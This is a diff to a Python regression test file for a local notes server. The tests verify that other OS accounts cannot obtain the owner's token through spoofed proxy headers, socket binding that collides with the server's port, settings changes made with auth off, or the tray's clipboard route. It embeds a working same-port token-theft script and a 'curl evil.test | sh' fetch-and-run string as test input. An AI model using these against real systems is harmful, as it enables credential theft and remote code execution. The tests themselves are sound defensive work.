@@ -5,12 +5,24 @@ from __future__ import annotations
 
 import json
 import subprocess
+import urllib.request
+from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
-from tests.support.live import fetch, serve
+import anyio
+import httpx2
+
+from hivenote.desktop.routes import desktop_routes
+from hivenote.server.settings import Settings
+from hivenote.server.storage.store import Store
+from hivenote.server.tokens import Tokens
+from hivenote.server.web.app import create_app
+from tests.support.live import exchange, fetch, serve, sign_in_code, signed_in
 from tests.support.privileges import as_nobody
 
 CLIENT = "hivenote-dashboard/0.1.0"
+SYSTEM_PYTHON = "/usr/bin/python3"  # not a venv under /root, which another account cannot enter
 PROXY_HEADERS = {
     "X-Forwarded-For": "127.0.0.1",
     "X-Forwarded-Proto": "https",
@@ -19,10 +31,14 @@ PROXY_HEADERS = {
 }
 
 
-def _curl_as_nobody(url: str, headers: dict[str, str]) -> dict[str, object]:
-    command = [*as_nobody(), "curl", "-s", "--max-time", "20"]
+def _curl_as_nobody(
+    url: str, headers: dict[str, str], data: str | None = None, method: str | None = None
+) -> dict[str, object]:
+    command = [*as_nobody(), "curl", "-s", "--max-time", "20", *(["-X", method] if method else [])]
     for name, value in headers.items():
         command += ["-H", f"{name}: {value}"]
+    if data is not None:
+        command += ["--data-binary", data]
     answer = subprocess.run([*command, url], capture_output=True, encoding="utf-8", timeout=30, check=True).stdout
     parsed: dict[str, object] = json.loads(answer)
     return parsed
@@ -30,26 +46,124 @@ def _curl_as_nobody(url: str, headers: dict[str, str]) -> dict[str, object]:
 
 def test_another_account_gets_no_token_by_claiming_to_be_forwarded_from_loopback(tmp_path: Path) -> None:
     """Issue 14 item 1: uvicorn trusted X-Forwarded-For from loopback, so the session's same-account check looked
-    for a connection from port 0, found none and handed the owner's token to `nobody`."""
+    for a connection from port 0, found none and handed the owner's token to `nobody`. Since issue 33 nothing looks at
+    the caller's address at all: the session wants a one-time code, whatever any header claims."""
     with serve(tmp_path / "data") as running:
-        answer = _curl_as_nobody(running.url + "/api/session", {"X-Hivenote-Client": CLIENT, **PROXY_HEADERS})
-        assert "token" not in answer, "another account got the owner's token"
-        assert answer["error"]["code"] == "forbidden"  # type: ignore[index]
-        # A proxy header does not change who this account is either: it still may, whatever the header claims.
-        status, _, body = fetch(
-            running.url + "/api/session", {"X-Hivenote-Client": CLIENT, "X-Forwarded-For": "203.0.113.9"}
-        )
-        assert status == 200 and body["token"] == running.token
+        dashboard = {"X-Hivenote-Client": CLIENT, "Content-Type": "application/json", **PROXY_HEADERS}
+        for data in (None, '{"code": "guessed"}'):
+            answer = _curl_as_nobody(running.url + "/api/session", dashboard, data)
+            assert running.token not in json.dumps(answer) and "error" in answer, answer
+        # A proxy header does not change what this account's code gets either.
+        headers = {"X-Hivenote-Client": CLIENT, "Content-Type": "application/json", "X-Forwarded-For": "203.0.113.9"}
+        code = json.dumps({"code": sign_in_code(running.url, running.token)}).encode()
+        status, answered, body = fetch(running.url + "/api/session", headers, code)
+        assert (status, body) == (200, {"person": ""}) and "set-cookie" in answered
 
 
-def test_no_proxy_header_changes_the_peer_on_any_route(tmp_path: Path) -> None:
-    """The peer address the routes see is the socket's: the session answers this machine only, so a header naming
-    another host must not change what it sees (nor the URL scheme)."""
+def test_no_proxy_header_changes_who_the_caller_is_on_any_route(tmp_path: Path) -> None:
+    """Who a caller is comes from what it holds (a token, the dashboard's cookie), never from where it says it is:
+    no header naming loopback opens anything, and none naming another host closes anything."""
     with serve(tmp_path / "data") as running:
-        headers = {"Authorization": f"Bearer {running.token}", "X-Hivenote-Client": CLIENT}
+        cookie = signed_in(running, CLIENT)
         for name, value in {**PROXY_HEADERS, "X-Forwarded-For": "192.0.2.77", "Forwarded": "for=192.0.2.77"}.items():
-            status, _, body = fetch(running.url + "/api/session", {**headers, name: value})
-            assert (status, body.get("token")) == (200, running.token), name
+            assert fetch(running.url + "/api/notes", {name: value})[0] == 401, name
+            status, _, body = fetch(running.url + "/api/session", {"X-Hivenote-Client": CLIENT, name: value}, b"{}")
+            assert status in (400, 403) and "person" not in body, (name, body)
+            assert fetch(running.url + "/api/notes", {**cookie, name: value})[0] == 200, name
+
+
+# Run as the other account by the system's own Python (standard library only): connects from an address of its
+# choosing, bound to the server's own port, so that its socket and the server's accepted one have the same two ports.
+_SAME_PORTS_ATTACK = r"""
+import socket, sys
+port, tries = int(sys.argv[1]), int(sys.argv[2])
+head = (
+    f"GET /api/session HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-Hivenote-Client: hivenote-dashboard/0.1.0\r\n"
+    "Sec-Fetch-Site: same-origin\r\nConnection: close\r\n\r\n"
+).encode()
+for attempt in range(tries):
+    with socket.socket() as s:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        s.bind((f"127.0.0.{2 + attempt % 250}", port))
+        s.settimeout(10)
+        s.connect(("127.0.0.1", port))
+        s.sendall(head)
+        answer = b""
+        while chunk := s.recv(65536):
+            answer += chunk
+    sys.stdout.write(answer.decode("latin-1").split("\r\n")[0] + "\n")
+    if b'"token"' in answer:
+        sys.stdout.write(answer.decode("latin-1") + "\n")
+        break
+"""
+
+
+def test_another_account_gets_no_token_by_connecting_from_the_servers_own_port(tmp_path: Path) -> None:
+    """Issue 33 item 1: the session matched its caller in /proc/net/tcp by the two ports alone. Another account that
+    binds its client socket to 127.0.0.X:<server port> and connects to 127.0.0.1:<server port> made the server's own
+    accepted socket (the owner's) match too, and got the owner's token within a few tries."""
+    with serve(tmp_path / "data") as running:
+        port = running.url.rsplit(":", 1)[1]
+        command = [*as_nobody(), SYSTEM_PYTHON, "-I", "-c", _SAME_PORTS_ATTACK, port, "200"]
+        answers = subprocess.run(command, capture_output=True, encoding="utf-8", timeout=120, check=True).stdout
+        assert running.token not in answers, f"another account got the owner's token:\n{answers[-600:]}"
+        assert answers.count("HTTP/1.1") == 200  # every try was answered, none with the token
+
+
+def test_with_auth_off_another_account_cannot_widen_who_reaches_the_server(tmp_path: Path) -> None:
+    """Issue 33 item 7: with --no-auth every account on the machine was the owner. It could add a Host name of its
+    own to allowed_hosts (after a restart, a DNS-rebinding page of its choosing reads and writes the notebook), make
+    a token that still opens the server once auth is back on, or a sign-in code. Those need the owner's token now."""
+    with serve(tmp_path / "data", auth=False) as running:
+        json_body = {"Content-Type": "application/json"}
+        attempts = (
+            ("PUT", "/api/settings", '{"allowed_hosts": ["rebind.attacker.test"]}'),
+            ("PUT", "/api/settings", '{"host": "localhost", "port": 7799}'),
+            ("POST", "/api/tokens", '{"name": "eve"}'),
+            ("POST", "/api/session/code", ""),
+        )
+        for method, path, data in attempts:
+            answer = _curl_as_nobody(running.url + path, json_body, data, method)
+            error: Any = answer.get("error") or {}
+            assert error.get("code") == "forbidden", (path, data, answer)
+            assert "hivenote token show" in error["message"]
+        assert not (tmp_path / "data" / "settings.json").exists()
+        assert running.tokens.people() == []
+        # What widens nothing still changes without a token (auth is off), and the owner's token changes the rest.
+        assert "error" not in _curl_as_nobody(running.url + "/api/settings", json_body, '{"port": 7799}', "PUT")
+        owner = {**json_body, "Authorization": f"Bearer {running.token}"}
+        widened = urllib.request.Request(
+            running.url + "/api/settings", b'{"allowed_hosts": ["notes.example.test"]}', owner, method="PUT"
+        )
+        assert exchange(widened)[0] == 200
+        # So does the owner's dashboard, signed in by the tray with a code (made with the token).
+        dashboard = {**signed_in(running, CLIENT), **json_body}
+        cleared = urllib.request.Request(
+            running.url + "/api/settings", b'{"allowed_hosts": null}', dashboard, method="PUT"
+        )
+        assert exchange(cleared)[0] == 200
+
+
+def test_with_auth_off_the_trays_own_controls_stay_the_owners(tmp_path: Path) -> None:
+    """A sibling of item 7: with auth off any account on this machine could put text on the owner's clipboard (a
+    command they then paste), stop or quit the tray, or move the log, through /desktop."""
+    copied: list[str] = []
+    settings = replace(Settings(data_dir=tmp_path / "data"), auth=False)
+    with Store(settings.data_dir) as store:
+        app = create_app(settings, store, extra_routes=desktop_routes(copied.append))
+        token = Tokens(settings.data_dir / "tokens.json").default()
+
+        async def post(headers: dict[str, str]) -> int:
+            transport = httpx2.ASGITransport(app=app, client=("127.0.0.1", 50123))
+            async with httpx2.AsyncClient(transport=transport, base_url="http://127.0.0.1:7788") as client:
+                answer = await client.post("/desktop/clipboard", json={"text": "curl evil.test | sh"}, headers=headers)
+                return answer.status_code
+
+        assert anyio.run(post, {}) == 403
+        assert anyio.run(post, {"Authorization": "Bearer hn_guessed"}) == 403
+        assert copied == []
+        assert anyio.run(post, {"Authorization": f"Bearer {token}"}) == 200
+        assert copied == ["curl evil.test | sh"]
 
 
 def test_every_uvicorn_server_ignores_proxy_headers() -> None:
@@ -89,13 +203,14 @@ def test_a_damaged_token_file_shuts_every_door_with_a_reason_and_is_never_replac
     token and saved it over the file, every person's token gone."""
     with serve(tmp_path / "data") as running:
         running.tokens.add("ana")
+        cookie = signed_in(running, CLIENT)
         path = tmp_path / "data" / "tokens.json"
         path.write_bytes(b'{"default": "hn_')  # a cut file
         for _ in range(3):
             status, _, body = fetch(running.url + "/api/status", {"Authorization": f"Bearer {running.token}"})
             assert status == 503 and "tokens.json" in body["error"]["message"], (status, body)
-            status, _, body = fetch(running.url + "/api/session", {"X-Hivenote-Client": CLIENT})
-            assert "token" not in body and "tokens.json" in body["error"]["message"], (status, body)
+            status, _, body = fetch(running.url + "/api/notes", cookie)  # the cookie is checked with the token
+            assert status == 503 and "tokens.json" in body["error"]["message"], (status, body)
         assert path.read_bytes() == b'{"default": "hn_'
 
 
